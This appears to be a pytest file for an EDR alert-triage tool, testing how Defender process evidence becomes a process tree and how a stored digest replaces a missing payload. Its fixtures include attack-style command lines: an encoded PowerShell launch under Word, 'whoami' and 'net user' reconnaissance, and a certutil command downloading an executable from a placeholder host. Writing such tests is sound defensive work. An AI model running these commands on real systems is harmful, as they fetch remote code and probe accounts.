"""An alert's evidence as the ticket page reads it: the process tree from Defender's items,
whatever the payload claims (a loop, a missing parent, junk), and the stored digest when
the payload is gone."""

from __future__ import annotations

from typing import Any

from edrtrial.desk.evidence import ProcessNode, evidence_of
from edrtrial.models import Alert

PROCESS = "#microsoft.graph.security.processEvidence"


def process(pid: Any, parent: Any, name: str, command: str = "", parent_name: str = "") -> dict:
    item: dict[str, Any] = {
        "@odata.type": PROCESS,
        "processId": pid,
        "parentProcessId": parent,
        "processCommandLine": command,
        "imageFile": {"fileName": name, "filePath": "C:\\Windows"},
    }
    if parent_name:
        item["parentProcessImageFile"] = {"fileName": parent_name}
    return item


def shape(nodes: list[ProcessNode]) -> list[Any]:
    return [(n.name, shape(n.children)) for n in nodes]


def test_children_sit_under_their_parents_and_an_unnamed_parent_gets_its_own_node() -> None:
    alert = Alert(
        raw={
            "evidence": [
                process(30, 20, "cmd.exe", "cmd /c whoami"),
                process(20, 10, "powershell.exe", "powershell -enc AAA", parent_name="winword.exe"),
                process(31, 20, "net.exe", "net user"),
            ]
        },
        evidence={},
    )
    found = evidence_of(alert)
    assert shape(found.processes) == [
        ("winword.exe", [("powershell.exe", [("cmd.exe", []), ("net.exe", [])])])
    ]
    assert found.command_lines == ["cmd /c whoami", "powershell -enc AAA", "net user"]


def test_a_loop_in_the_payload_does_not_hang_or_lose_a_process() -> None:
    alert = Alert(
        raw={"evidence": [process(1, 2, "a.exe"), process(2, 1, "b.exe"), process(3, 3, "c.exe")]},
        evidence={},
    )
    names: list[str] = []

    def walk(nodes: list[ProcessNode]) -> None:
        for node in nodes:
            names.append(node.name)
            walk(node.children)

    walk(evidence_of(alert).processes)
    assert sorted(names) == ["a.exe", "b.exe", "c.exe"]


def test_junk_items_are_skipped_and_the_digest_stands_in_for_a_missing_payload() -> None:
    junk = Alert(
        raw={"evidence": ["text", None, {"@odata.type": PROCESS, "imageFile": "x"}, 5]},
        evidence={},
    )
    assert [n.name for n in evidence_of(junk).processes] == ["?"]
    gone = Alert(
        raw={},
        evidence={
            "command_lines": ["certutil -urlcache -f http://x/a.exe"],
            "urls": ["http://x/a.exe"],
            "file_hashes": ["b" * 64],
            "users": ["SAKURA\\yamada"],
        },
    )
    found = evidence_of(gone)
    assert found.command_lines == ["certutil -urlcache -f http://x/a.exe"]
    assert found.urls == ["http://x/a.exe"]
    assert found.files == ["sha256:" + "b" * 64]
    assert found.users == ["SAKURA\\yamada"]
    assert not found.empty
    assert evidence_of(Alert(raw={}, evidence={})).empty
